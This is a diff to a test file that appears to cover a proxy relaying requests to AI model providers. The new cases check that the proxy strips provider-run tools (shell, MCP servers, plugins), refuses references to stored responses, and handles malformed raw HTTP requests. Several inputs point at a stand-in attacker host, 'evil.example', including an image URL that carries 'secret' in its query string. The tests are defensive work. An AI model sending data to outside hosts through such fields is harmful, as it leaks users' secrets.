@@ -223,6 +223,10 @@ async def test_without_a_key_or_a_provider(tmp_path: Path, models: Models) -> No
         ("/anthropic/v1/messages", {"tools": [{"type": "web_fetch_20250910"}, {"type": "web_search_20250305"},
                                               {"type": "code_execution_20250825"}, {"name": "f", "input_schema": {}}]}, [None]),
         ("/openai/v1/chat/completions", {"web_search_options": {}, "tools": [{"type": "function", "function": {"name": "f"}}]}, ["function"]),
+        ("/openai/v1/responses", {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}, {"type": "namespace", "name": "n", "tools": [
+            {"type": "mcp", "server_label": "evil.example"}]}, {"type": "shell"}]}, ["namespace", "shell"]),
+        ("/openai/v1/responses", {"tools": [], "plugins": [{"id": "web"}], "models": ["other"], "input": [
+            {"type": "tool_search_output", "tools": [{"type": "web_search", "filters": "evil.example"}]}]}, []),
         ("/anthropic/v1/messages", {"mcp_servers": [{"url": "https://evil.example"}], "container": "x", "tools": []}, []),
     ],
 )  # fmt: skip
@@ -233,7 +237,7 @@ async def test_tools_that_the_provider_runs_are_taken_out(
     async for _, opened in client(asking(tmp_path, models)):
         assert (await opened.post(path, json={**body, **more})).status_code == 200
         assert [tool.get("type") for tool in models.asked[-1].body["tools"]] == kept
-        assert not {"mcp_servers", "container", "web_search_options"} & models.asked[-1].body.keys()
+        assert not {"mcp_servers", "container", "web_search_options", "plugins", "models"} & models.asked[-1].body.keys()
         assert b"evil.example" not in models.asked[-1].raw
 
 
@@ -241,6 +245,7 @@ async def test_tools_that_the_provider_runs_are_taken_out(
     ("path", "more"),
     [
         ("/openai/v1/responses", {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "https://evil.example/?q=secret"}]}]}),
+        ("/openai/v1/responses", {"input": [{"type": "mcp_list_tools", "server_url": "https://evil.example"}]}),
         ("/openai/v1/responses", {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": "https://evil.example/x"}]}]}),
         ("/openai/v1/chat/completions",
          {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "HTTPS://evil.example/"}}]}]}),
@@ -267,6 +272,37 @@ async def test_a_question_arrives_as_it_was_asked(tmp_path: Path, models: Models
     (asked,) = models.asked
     assert (list(asked.body), list(asked.body["zeta"]), asked.body["model"]) == (["zeta", "input", "model", "alpha"], ["b", "a"], "small")
     assert asked.body["input"] == "half \ud800 \N{ROASTED SWEET POTATO}"
+
+
+@pytest.mark.parametrize("more", [{"previous_response_id": "resp_1"}, {"input": [{"type": "item_reference", "id": "msg_1"}]}])
+async def test_what_the_provider_keeps_is_not_referred_to(more: dict[str, Any], tmp_path: Path, models: Models) -> None:
+    async for _, opened in client(asking(tmp_path, models)):
+        told = await opened.post("/openai/v1/responses", json={"model": "big", "input": "hi", **more})
+        assert (told.status_code, models.asked) == (400, [])
+
+
+async def test_an_answer_that_was_cut_is_counted_by_what_came(tmp_path: Path, models: Models) -> None:
+    """The first event of a stream tells of one token; what came after it counts, too."""
+    models.cut, models.text = True, "word " * 6000
+    path, body = QUESTIONS["messages"]
+    async for entry, opened in client(asking(tmp_path, models)):
+        await opened.post(path, json={**body, "stream": True})
+        assert entry.models.meter.tokens > 5000
+
+
+async def test_odd_requests_are_refused(tmp_path: Path, models: Models) -> None:
+    async for entry, opened in client(asking(tmp_path, models)):
+        port = opened.base_url.port
+        for head in (b"OPTIONS * HTTP/1.1\r\n", b"POST /openai/v1/responses HTTP/1.1\r\nanthropic-version: \xff\r\n"):
+            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+            body = b'{"model": "big"}'
+            writer.write(
+                head
+                + b"host: 127.0.0.1\r\nauthorization: Bearer %s\r\ncontent-length: %d\r\n\r\n%s" % (entry.token.encode(), len(body), body)
+            )
+            assert (await reader.readline()).split()[1] in (b"404", b"200")
+            writer.close()
+            await writer.wait_closed()
 
 
 async def test_pictures_within_the_question_pass(tmp_path: Path, models: Models) -> None:
